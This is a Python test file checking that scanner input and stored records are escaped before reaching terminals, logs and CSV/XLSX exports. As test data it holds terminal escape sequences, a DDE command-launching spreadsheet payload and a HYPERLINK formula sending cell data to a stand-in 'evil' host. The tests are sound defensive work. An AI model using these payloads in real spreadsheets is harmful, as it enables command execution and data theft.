"""Scanner text never reaches a terminal, a log or a spreadsheet formula raw."""

from __future__ import annotations

import csv
import io
import json
import logging
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Callable

import pytest
from openpyxl import load_workbook

from edge.config import load_config
from edge.daemon.station import open_store
from edge.logs import FieldFormatter
from edge.textsafe import printable, scanned_text, sheet_text
from interlock.fill import Record

from .conftest import SimStation, write_config
from .test_manager_tools import edge

# CR is the simulated scanner's terminator, so it cannot be inside one scan; LF can.
HOSTILE = b"\x1b[2J\x1b]0;owned\x07AB\x00CD\xff\n\x9b31m"
CONTROL = [chr(c) for c in range(0x20) if c not in (0x0A,)] + ["\x7f", "\x9b", "\u202e"]


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        (b"AB\x00CD", "AB\\x00CD"),
        (b"\x1b[2J", "\\x1b[2J"),
        (b"\xff\xfe", "\\xff\\xfe"),
        (b"ok-123", "ok-123"),
    ],
)
def test_scanned_text_escapes_and_never_cuts(raw: bytes, shown: str) -> None:
    assert scanned_text(raw) == shown


def test_printable_leaves_no_control_character() -> None:
    text = printable("".join(CONTROL) + "张伟 ok")
    assert text.isprintable() and text.endswith("张伟 ok")
    assert "\\u202e" in text  # a bidi override would reorder what a reader sees


@pytest.mark.parametrize("leader", ["=", "+", "-", "@", "\t", "\r"])
def test_formula_leaders_become_text(leader: str) -> None:
    assert sheet_text(leader + "1+1").startswith("'")
    assert sheet_text("CYL" + leader) == printable("CYL" + leader)
    assert sheet_text(-1.5) == -1.5  # numbers stay numbers


def test_hostile_scan_is_escaped_in_journal_log_and_records(
    make_station: Callable[..., SimStation], monkeypatch: pytest.MonkeyPatch
) -> None:
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.setFormatter(FieldFormatter(journald=False))  # the daemon's own log format
    root = logging.getLogger()
    monkeypatch.setattr(root, "level", logging.INFO)
    root.addHandler(handler)
    try:
        station = make_station()
        verdict = station.scan("A", HOSTILE)
    finally:
        root.removeHandler(handler)
    assert not verdict["accepted"]
    assert "AB\\x00CD" in verdict["code"] and "\x1b" not in verdict["code"]
    assert verdict["raw_hex"] == HOSTILE.hex()
    logged = stream.getvalue()
    assert "REJECT" in logged and "AB\\x00CD" in logged
    assert not any(ch in logged for ch in "\x1b\x00\x07\x9b"), repr(logged)

    config_path = str(station.config.store.path.parent / "station.yaml")
    shown = edge("records", "--config", config_path, "--rejected")
    assert shown.returncode == 0, shown.stderr
    as_csv = edge("records", "--config", config_path, "--rejected", "--csv")
    for out in (shown.stdout, as_csv.stdout):
        assert "AB\\x00CD" in out, out
        assert not any(ch in out for ch in "\x1b\x00\x07\x9b\xff"), repr(out)
    row = next(csv.DictReader(io.StringIO(as_csv.stdout)))
    assert row["raw_hex"] == verdict["raw_hex"]


def _formula_store(tmp_path: Path) -> Path:
    config_path = write_config(tmp_path)
    store = open_store(load_config(config_path))
    at = datetime(2026, 11, 20, 1, 0, tzinfo=UTC)
    # Text a city record (cylinder ID) or a staff register (operator name) could carry.
    authorised = {"cylinder_id": "+CYL\x1b[2J", "code": "@SUM(1+1)*cmd|' /C calc'!A0", "authorised_at": at,
                  "tare_kg": 15.3, "target_net_kg": 14.5}
    context = {"operator": '=HYPERLINK("http://evil/?"&A1,"x")', "checker": "-2+3", "medium": "G13"}
    done = {"started_at": at + timedelta(seconds=5), "finished_at": at + timedelta(seconds=50), "outcome": "ok", "net_kg": 14.5}
    try:
        store.apply_record("A", Record("fill-001", "authorised", authorised), at, context)
        store.apply_record("A", Record("fill-001", "complete", done), at, {})
    finally:
        store.close()
    return config_path


def test_export_and_csv_never_hold_a_formula(tmp_path: Path) -> None:
    config_path = _formula_store(tmp_path)
    xlsx, out_csv = tmp_path / "ledger.xlsx", tmp_path / "ledger.csv"
    for out in (xlsx, out_csv):
        result = edge("export", "--config", str(config_path), "-o", str(out))
        assert result.returncode == 0, result.stderr

    cells = [c for sheet in load_workbook(xlsx).worksheets for row in sheet.iter_rows(min_row=3) for c in row
             if isinstance(c.value, str)]
    risky = [c for c in cells if c.value.startswith(("=", "+", "-", "@"))]
    assert {c.value[0] for c in risky} >= {"=", "+", "@", "-"}, [c.value for c in cells]
    for cell in risky:
        assert cell.data_type == "s", (cell.coordinate, cell.value, cell.data_type)
    assert not any("\x1b" in c.value for c in cells)

    text = out_csv.read_text(encoding="utf-8-sig")
    for row in csv.reader(io.StringIO(text)):
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
    assert "'=HYPERLINK" in text and "'@SUM" in text and "'+CYL\\x1b[2J" in text

    records = edge("records", "--config", str(config_path), "--csv")
    assert records.returncode == 0, records.stderr
    for row in csv.reader(io.StringIO(records.stdout)):
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
    as_json = json.loads(edge("records", "--config", str(config_path), "--json").stdout)
    assert as_json[0]["code"].startswith("@SUM")  # JSON for programs keeps the text itself
